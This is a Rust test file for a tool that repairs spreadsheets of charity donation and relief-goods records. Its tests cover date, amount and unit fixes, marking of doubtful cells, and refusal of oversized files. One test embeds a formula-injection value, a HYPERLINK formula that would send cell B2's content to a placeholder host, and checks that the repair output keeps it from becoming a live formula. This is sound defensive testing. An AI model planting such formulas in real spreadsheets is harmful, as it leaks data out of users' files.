//! A repaired copy says what the original says, in fewer words.

#![allow(
    clippy::panic,
    clippy::unwrap_used,
    reason = "a test fails by stopping"
)]

use std::path::PathBuf;

use bangfu::error::Code;
use bangfu::time::Date;
use bangfu_exchange::mend::{self, Copy};
use bangfu_exchange::record::{self, Reading, Records};
use bangfu_exchange::sheet::Cell;
use bangfu_exchange::table::Mapping;
use bangfu_exchange::{Limits, Weight, source};

fn copy(bytes: &[u8], name: &str) -> Copy {
    mend::copy(bytes, name, &Mapping::default(), &Limits::default(), None).unwrap()
}

fn read(bytes: &[u8], name: &str) -> Reading {
    record::read(bytes, name, &Mapping::default(), &Limits::default()).unwrap()
}

/// What rows say, wherever they stand.
fn said(reading: &Reading) -> Vec<String> {
    let all = reading.tables.iter().flat_map(|records| match records {
        Records::Gifts { rows, controls } => {
            let rows = rows.iter().map(|row| format!("{row:?}"));
            let controls = controls.iter().map(|control| format!("{control:?}"));
            rows.chain(controls).collect()
        }
        Records::Goods(lines) => lines
            .iter()
            .map(|line| format!("{line:?}"))
            .collect::<Vec<_>>(),
        Records::Needs(rows) => rows.iter().map(|row| format!("{row:?}")).collect(),
        Records::Resources(rows) => rows.iter().map(|row| format!("{row:?}")).collect(),
        Records::Entries(_, rows) => rows.iter().map(|row| format!("{row:?}")).collect(),
    });
    all.collect()
}

/// How many findings keep a row out or ask somebody.
fn doubts(reading: &Reading) -> usize {
    let findings = reading.findings.iter();
    let doubts = findings.filter(|finding| finding.weight() != Weight::Note);
    doubts.count()
}

/// Copies, reads both, and asks that the copy says the same.
fn same(bytes: &[u8], name: &str) -> (Copy, Reading, Reading) {
    let copied = copy(bytes, name);
    let (before, after) = (read(bytes, name), read(&copied.bytes, "copy.xlsx"));
    assert_eq!(said(&before), said(&after), "{name}");
    assert!(
        after.findings.len() <= before.findings.len(),
        "{name}: {:?}",
        after.findings
    );
    assert!(doubts(&after) <= doubts(&before), "{name}");
    // What is right already is not put right again.
    let again = copy(&copied.bytes, "copy.xlsx");
    assert_eq!(again.repairs, [], "{name}");
    assert_eq!(again.marked, copied.marked, "{name}");
    (copied, before, after)
}

const GIFTS: &str = "某县慈善会捐款公示（2024年4月）,,,\n\
    捐赠日期,捐赠人,捐赠金额（元）,备注\n\
    2024年4月2日,某 公司\u{200b},\"1,386,000.00\",指定万源市100万元、宣汉县38.6万元\n\
    4月3日,张某,壹佰元整,\n\
    20240403,李某,119612525.89999998,\n\
    01/02/2024,王某,50,\n\
    2024-04-03,赵某,138.6万余元,用于武汉某某事务\n\
    合计,,120998625.90,\n";

#[test]
fn what_is_certain_is_put_right_and_what_is_in_doubt_is_marked() {
    // As an office saves it: not marked as what it is.
    let (bytes, ..) = encoding_rs::GB18030.encode(GIFTS);
    let (copied, before, after) = same(&bytes, "gifts.csv");
    let told: Vec<_> = copied
        .repairs
        .iter()
        .map(|repair| format!("{} {} {}", repair.cell, repair.why.name(), repair.after))
        .collect();
    insta::assert_debug_snapshot!("repairs", told);
    assert_eq!(copied.marked, 4, "{:?}", before.findings);
    // Every cell in doubt is marked, however few findings are told.
    let few = Limits {
        findings: 0,
        ..Limits::default()
    };
    let mapping = Mapping::default();
    let again = mend::copy(&bytes, "gifts.csv", &mapping, &few, None).unwrap();
    assert_eq!(
        (again.marked, again.repairs.len()),
        (4, copied.repairs.len())
    );
    assert!(after.findings.len() < before.findings.len());
    let book = source::read(&copied.bytes, "copy.xlsx", &Limits::default()).unwrap();
    let names: Vec<_> = book
        .sheets
        .iter()
        .map(bangfu_exchange::sheet::Sheet::name)
        .collect();
    assert_eq!(names, ["gifts", "修改记录"]);
    let cell = |row, column| book.sheets[0].get(row, column).unwrap();
    assert!(matches!(cell(2, 0), Cell::Serial(_)));
    assert_eq!(cell(5, 0), Cell::Text("01/02/2024"));
    let log = &book.sheets[1];
    assert_eq!(log.rows().count(), copied.repairs.len() + 1);
    assert_eq!(log.get(1, 1), Some(Cell::Text("A3")));
    assert_eq!(log.get(1, 2), Some(Cell::Text("2024年4月2日")));
}

#[test]
fn a_unit_gets_a_column_of_its_own() {
    let goods = "捐赠单位,日期,品名,数量,备注\n某被服厂,2024/4/2,棉被,60床,\n某药店,2024-04-02,口罩,\"1,200盒\",\n某店,2024-04-02,手套,一批,\n";
    let (copied, ..) = same(goods.as_bytes(), "goods.csv");
    let told: Vec<_> = copied
        .repairs
        .iter()
        .map(|repair| (repair.cell.as_str(), repair.after.as_str()))
        .collect();
    assert_eq!(
        told,
        [
            ("F1", "计量单位"),
            ("B2", "2024-04-02"),
            ("D2", "60"),
            ("F2", "床"),
            ("B3", "2024-04-02"),
            ("D3", "1200"),
            ("F3", "盒"),
            ("B4", "2024-04-02")
        ]
    );
    let needs =
        "县,机构,物资,计量单位,需求数量\n万源市,敬老院,棉被,,100床\n万源市,卫生院,口罩,盒,1200\n";
    let (copied, ..) = same(needs.as_bytes(), "needs.csv");
    let told: Vec<_> = copied
        .repairs
        .iter()
        .map(|repair| repair.cell.as_str())
        .collect();
    assert_eq!(told, ["D2", "E2", "E3"]);
}

#[test]
fn the_same_file_gives_the_same_bytes_and_the_day_that_it_is_told() {
    let day = Date::parse("2024-04-05").unwrap();
    let made = |day| {
        let (mapping, limits) = (Mapping::default(), Limits::default());
        let copied = mend::copy(GIFTS.as_bytes(), "gifts.csv", &mapping, &limits, day);
        copied.unwrap().bytes
    };
    assert_eq!(made(Some(day)), made(Some(day)));
    assert_ne!(made(Some(day)), made(None));
}

#[test]
fn a_json_list_becomes_a_sheet_with_its_doubts_in_their_cells() {
    let list = r#"[{"捐赠人": "某公司", "日期": "2024-04-02", "金额": "壹佰元整"},
                   {"捐赠人": "张某", "日期": "2024-04-02", "金额": -5}]"#;
    let copied = copy(list.as_bytes(), "gifts.json");
    assert_eq!(copied.marked, 2);
    let after = read(&copied.bytes, "copy.xlsx");
    assert_eq!(after.tables[0].len(), 1);
}

#[test]
fn a_copy_of_a_copy_knows_what_was_put_right_before() {
    let list = "日期,捐赠人,金额（元）\n2024.4.2,某公司,壹佰元整\n";
    let first = copy(list.as_bytes(), "gifts.csv");
    let second = copy(&first.bytes, "copy.xlsx");
    let book = source::read(&second.bytes, "again.xlsx", &Limits::default()).unwrap();
    let logs = book
        .sheets
        .iter()
        .filter(|sheet| sheet.name().starts_with("修改记录"));
    let mut rows: Vec<usize> = logs.map(|sheet| sheet.rows().count()).collect();
    rows.sort_unstable();
    assert_eq!(rows, [1, first.repairs.len() + 1]);
    assert_eq!(read(&second.bytes, "again.xlsx").tables.len(), 1);
}

#[test]
fn what_a_file_calls_an_error_does_not_become_a_formula() {
    let cell = |kind: &str, text: &str| {
        format!("<table:table-cell {kind}><text:p>{text}</text:p></table:table-cell>")
    };
    let error = "office:value-type=\"string\" calcext:value-type=\"error\"";
    let rows = [
        [cell("", "捐赠人"), cell("", "金额（元）"), cell("", "备注")],
        [
            cell("", "某公司"),
            cell("", "100"),
            cell(error, "HYPERLINK(&quot;http://x/&quot;&amp;B2)"),
        ],
        [cell("", "某厂"), cell("", "200"), cell(error, "#DIV/0!")],
    ];
    let rows = rows.map(|cells| format!("<table:table-row>{}</table:table-row>", cells.concat()));
    let content = format!(
        "<?xml version=\"1.0\"?><office:document-content \
         xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" \
         xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\" \
         xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" \
         xmlns:calcext=\"urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0\">\
         <office:body><office:spreadsheet><table:table table:name=\"a\">{}</table:table>\
         </office:spreadsheet></office:body></office:document-content>",
        rows.concat()
    );
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let stored = zip::write::SimpleFileOptions::default();
    for (name, text) in [
        ("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
        ("content.xml", &content),
    ] {
        writer.start_file(name, stored).unwrap();
        std::io::Write::write_all(&mut writer, text.as_bytes()).unwrap();
    }
    let bytes = writer.finish().unwrap().into_inner();
    let copied = copy(&bytes, "list.ods");
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(&copied.bytes)).unwrap();
    let mut sheet = String::new();
    let mut file = archive.by_name("xl/worksheets/sheet1.xml").unwrap();
    std::io::Read::read_to_string(&mut file, &mut sheet).unwrap();
    let formulas: Vec<&str> = sheet.split("<f>").skip(1).collect();
    assert_eq!(formulas.len(), 1, "{sheet}");
    assert!(formulas[0].starts_with("#DIV/0!"));
}

#[test]
fn a_file_that_is_no_table_or_too_large_for_a_copy_is_refused() {
    let refused = |text: &str| {
        let (mapping, limits) = (Mapping::default(), Limits::default());
        let copied = mend::copy(text.as_bytes(), "a.csv", &mapping, &limits, None);
        copied.unwrap_err().name()
    };
    assert_eq!(refused("a,b\n1,2\n"), "NO_TABLE");
    let long = format!(
        "捐赠人,金额（元）\n某公司,1\n{}某公司,1\n",
        "\n".repeat(1 << 20)
    );
    assert_eq!(refused(&long), "TOO_LARGE");
    let text = format!("捐赠人,金额（元）\n{},1\n", "x".repeat(40_000));
    assert_eq!(refused(&text), "TOO_LARGE");
}

#[test]
fn copies_of_real_sheets_say_the_same() {
    let folder = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/sheets");
    let Ok(entries) = std::fs::read_dir(&folder) else {
        eprintln!(
            "skipped copies_of_real_sheets_say_the_same: no {}",
            folder.display()
        );
        return;
    };
    let mut files: Vec<_> = entries.map(|entry| entry.unwrap().path()).collect();
    files.sort();
    let mut copied = 0;
    for file in files {
        let name = file.file_name().unwrap().to_string_lossy().into_owned();
        let bytes = std::fs::read(&file).unwrap();
        if record::read(&bytes, &name, &Mapping::default(), &Limits::default()).is_err() {
            continue;
        }
        // Pointers of JSON become cells.
        if !name.ends_with(".json") {
            same(&bytes, &name);
            copied += 1;
        }
    }
    assert!(copied > 3, "{copied}");
}
